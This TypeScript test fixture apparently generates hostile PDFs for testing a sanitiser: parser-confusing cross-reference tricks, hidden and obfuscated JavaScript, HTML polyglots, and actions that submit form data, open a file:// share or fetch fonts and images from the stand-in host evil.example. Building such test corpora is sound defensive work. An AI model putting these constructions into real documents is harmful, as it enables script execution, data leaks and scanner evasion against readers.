import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { SCRIPT } from './corpus/revisions.ts';
import { type PdfObject, pdf, pdfOf } from './making/pdfs.ts';

const EVIL = 'http://evil.example/';
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const EVIL_CATALOG = `<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} >>`;
const link = (action: string, more = '') =>
  pdf({ page: `/Annots [<< /Subtype /Link /Rect [0 0 600 700] /A << ${action} >> ${more} >>]` });

/** A complete PDF with appended content, whose end points to a cross-reference table of its own. */
function appendRevision(
  document: Buffer,
  objects: string,
  entries: (at: number) => string,
  trailer: string,
): Buffer {
  const previous = /startxref\n(\d+)\n%%EOF\n$/.exec(document.toString('latin1'))?.[1];
  const start = document.length + objects.length;
  return Buffer.concat([
    document,
    Buffer.from(
      `${objects}xref\n${entries(document.length)}trailer\n<< /Size 9 ${trailer} /Prev ${previous} >>\n`,
    ),
    Buffer.from(`startxref\n${start}\n%%EOF\n`),
  ]);
}
const place = (at: number) => `${String(at).padStart(10, '0')} 00000 n \n`;
const catalogObject = (number: number, catalog: string) => `${number} 0 obj\n${catalog}\nendobj\n`;

/** A cross-reference stream (PDF 1.5) that a classic table also refers to: readers differ in which they use. */
function hybrid(): Buffer {
  const document = pdf();
  const evil = catalogObject(8, EVIL_CATALOG);
  const at = document.length;
  const rows = Buffer.from([1, (at >> 8) & 255, at & 255, 0]);
  const data = deflateSync(rows);
  const stream = `7 0 obj\n<< /Type /XRef /Size 9 /Index [8 1] /W [1 2 1] /Root 8 0 R /Filter /FlateDecode /Length ${data.length} >>\nstream\n`;
  const table = at + evil.length;
  const body = Buffer.concat([Buffer.from(evil + stream), data, Buffer.from('\nendstream\nendobj\n')]);
  const previous = /startxref\n(\d+)\n%%EOF\n$/.exec(document.toString('latin1'))?.[1];
  return Buffer.concat([
    document,
    body,
    Buffer.from(
      `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 9 /Root 8 0 R /XRefStm ${table} /Prev ${previous} >>\n`,
    ),
    Buffer.from(`startxref\n${at + body.length}\n%%EOF\n`),
  ]);
}

/** Its script is encrypted with only the owner's password set, so that any reader opens it. */
async function lockedPdf(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  document.addJavaScript('main', 'app.alert(1)');
  document.encrypt({ userPassword: '', ownerPassword: 'y' });
  return Buffer.from(await document.save({ useObjectStreams: false }));
}

const HTML = '<html><body onload="alert(1)"><script>alert(1)</script></body></html>\n';
const script = (text: string): PdfObject => ({
  dict: '/Filter /FlateDecode',
  stream: deflateSync(Buffer.from(text)),
});

/** PDFs that readers interpret differently, and attacks of other kinds than those of hostile.ts. */
export async function hostileStructure(): Promise<{ title: string; bytes: Buffer }[]> {
  const plain = pdf();
  return [
    {
      title: 'a catalog that a later table brings in',
      bytes: appendRevision(
        plain,
        catalogObject(1, EVIL_CATALOG),
        (at) => `1 1\n${place(at)}`,
        '/Root 1 0 R',
      ),
    },
    {
      title: 'another root than before',
      bytes: appendRevision(
        plain,
        catalogObject(8, EVIL_CATALOG),
        (at) => `8 1\n${place(at)}`,
        '/Root 8 0 R',
      ),
    },
    {
      title: 'a table that says the catalog is free, and a script in it all the same',
      bytes: appendRevision(
        pdf({ catalog: `/OpenAction ${SCRIPT}` }),
        '',
        () => '1 1\n0000000000 00001 f \n',
        '/Root 1 0 R',
      ),
    },
    {
      title: 'a table whose places are wrong, so that each reader seeks for itself',
      bytes: Buffer.from(
        pdf({ catalog: `/OpenAction ${SCRIPT}` })
          .toString('latin1')
          .replace(/\d{10} 00000 n/g, '0000000007 00000 n'),
        'latin1',
      ),
    },
    {
      title: 'an end that names a place in its midst',
      bytes: Buffer.concat([
        Buffer.from(
          pdf({ catalog: `/OpenAction ${SCRIPT}` })
            .toString('latin1')
            .replace(/startxref\n\d+/, 'startxref\n44'),
          'latin1',
        ),
      ]),
    },
    { title: 'two tables, one of them in a stream', bytes: hybrid() },
    { title: 'a script behind the owner`s password', bytes: await lockedPdf() },
    {
      title: 'a page of the web in front of it',
      bytes: Buffer.concat([Buffer.from(HTML), pdf({ catalog: `/OpenAction ${SCRIPT}` })]),
    },
    {
      title: 'a page of the web behind it',
      bytes: Buffer.concat([plain, Buffer.from(HTML), Buffer.from('startxref\n20\n%%EOF\n')]),
    },
    {
      title: 'a page of the web in its text',
      bytes: pdf({
        content: {
          dict: '',
          stream: Buffer.from('BT /F1 12 Tf 72 720 Td (<script>alert\\(1\\)</script>) Tj ET'),
        },
      }),
    },
    {
      title: 'names written in numbers',
      bytes: pdf({ catalog: '/Open#41ction << /#53 /J#61va#53cript /#4aS (app.alert\\(1\\)) >>' }),
    },
    {
      title: 'a script in UTF-16',
      bytes: pdf({
        catalog:
          '/OpenAction << /S /JavaScript /JS <FEFF006100700070002E0061006C0065007200740028003100290000> >>',
      }),
    },
    {
      title: 'a script in a packed stream',
      bytes: pdf({ catalog: '/OpenAction << /S /JavaScript /JS 5 0 R >>', more: [script('app.alert(1)')] }),
    },
    {
      title: 'a script of the tree of pages',
      bytes: pdfOf([
        CATALOG,
        `<< /Type /Pages /Count 1 /Kids [3 0 R] /AA << /O ${SCRIPT} >> >>`,
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /AA << /O ${SCRIPT} >> >>`,
      ]),
    },
    {
      title: 'a script deep in a tree of names',
      bytes: pdf({
        catalog: '/Names << /JavaScript << /Kids [5 0 R] >> >>',
        more: ['<< /Limits [(a) (b)] /Kids [6 0 R] >>', `<< /Limits [(a) (b)] /Names [(a) ${SCRIPT}] >>`],
      }),
    },
    {
      title: 'a field that is computed',
      bytes: pdf({
        catalog: '/AcroForm << /Fields [5 0 R] /CO [5 0 R] /NeedAppearances true >>',
        page: '/Annots [5 0 R]',
        more: [`<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 99 20] /AA << /C ${SCRIPT} /V ${SCRIPT} >> >>`],
      }),
    },
    {
      title: 'a button that sends what was typed',
      bytes: pdf({
        catalog: '/AcroForm << /Fields [5 0 R] >>',
        page: '/Annots [5 0 R]',
        more: [
          `<< /Subtype /Widget /FT /Btn /Ff 65536 /T (b) /Rect [0 0 600 700] /A << /S /SubmitForm /F << /FS /URL /F (${EVIL}) >> /Next ${SCRIPT} >> >>`,
        ],
      }),
    },
    { title: 'a link that is a script', bytes: link('/S /URI /URI (javascript:alert\\(1\\))') },
    {
      title: 'a link to a share in an address',
      bytes: link('/S /URI /URI (file:////evil.example/share/a.pdf)'),
    },
    {
      title: 'a link with more behind it',
      bytes: link(`/S /GoTo /D [4 0 R /Fit] /Next << /S /URI /URI (${EVIL}) /Next ${SCRIPT} >>`),
    },
    { title: 'a link that prints', bytes: link('/S /Named /N /Print', `/PA << /S /URI /URI (${EVIL}) >>`) },
    {
      title: 'a thread, a sound and a hidden field',
      bytes: link(
        `/S /Thread /F (${EVIL}) /D 0 /Next [<< /S /Sound /Sound 5 0 R >> << /S /Hide /T (a) /H false >>]`,
      ),
    },
    {
      title: 'a base for all its links',
      bytes: pdf({
        catalog: `/URI << /Base (${EVIL}) >>`,
        page: '/Annots [<< /Subtype /Link /Rect [0 0 600 700] /A << /S /URI /URI (a) >> >>]',
      }),
    },
    {
      title: 'a picture that is fetched',
      bytes: pdf({
        resources: '/XObject << /I 5 0 R >>',
        content: { dict: '', stream: Buffer.from('q 600 0 0 700 0 0 cm /I Do Q') },
        more: [
          {
            dict: `/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F << /FS /URL /F (${EVIL}a.png) >>`,
            stream: Buffer.alloc(0),
          },
        ],
      }),
    },
    {
      title: 'a font that is fetched',
      bytes: pdf({
        resources:
          '/Font << /F1 << /Type /Font /Subtype /TrueType /BaseFont /Evil /FontDescriptor 5 0 R >> >>',
        more: [
          `<< /Type /FontDescriptor /FontName /Evil /Flags 32 /FontFile2 6 0 R >>`,
          { dict: `/F << /FS /URL /F (${EVIL}a.ttf) >>`, stream: Buffer.alloc(0) },
        ],
      }),
    },
    {
      title: 'a collection of files',
      bytes: pdf({
        catalog:
          '/Collection << /D (a) /View /D >> /AF [5 0 R] /Names << /EmbeddedFiles << /Kids [7 0 R] >> >>',
        more: [
          '<< /Type /Filespec /F (a.exe) /AFRelationship /Data /EF << /F 6 0 R >> >>',
          script('MZ'),
          '<< /Limits [(a) (a)] /Names [(a) 5 0 R] >>',
        ],
      }),
    },
  ];
}
